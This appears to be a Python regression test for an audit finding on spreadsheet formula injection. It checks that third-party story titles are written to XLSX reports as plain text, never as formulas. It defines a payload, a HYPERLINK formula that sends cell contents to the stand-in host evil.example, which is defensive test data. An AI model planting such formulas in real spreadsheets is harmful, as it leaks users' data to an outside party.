"""Finding 4: text from third parties (story titles, outlets) never becomes an XLSX formula."""

from __future__ import annotations

import zipfile

from openpyxl import load_workbook

from ttdn.monitor.models import Story
from ttdn.reports.models import ReportStatus
from ttdn.reports.services import report_file_path, report_generate, report_request

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1, "Bấm vào đây")'


def test_formula_like_titles_are_stored_as_text(world, analyst) -> None:  # type: ignore[no-untyped-def]
    Story.objects.update(title=EVIL)
    Story.objects.filter(pk=Story.objects.order_by("pk").first().pk).update(title="@SUM(1+1)")
    report = report_request(user=analyst, kind="eval_3y", organisation=None, year=2025)
    report = report_generate(report_id=report.pk)
    assert report.status == ReportStatus.DONE, report.error
    path = report_file_path(report, "xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name), name  # no formula anywhere
    stories = load_workbook(path)["Câu chuyện nổi bật"]
    titles = {stories.cell(row=r, column=2).value for r in range(2, stories.max_row + 1)}
    assert EVIL in titles and "@SUM(1+1)" in titles
